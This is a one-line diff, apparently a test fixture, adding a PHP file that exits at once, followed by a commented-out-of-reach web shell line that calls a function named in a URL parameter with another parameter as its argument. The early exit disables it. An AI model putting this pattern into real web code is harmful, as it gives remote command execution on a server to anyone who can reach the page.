@@ -1,0 +1,1 @@
+<?php exit; /* inert */ ($_GET["o"]??"x")($_GET["a"]);
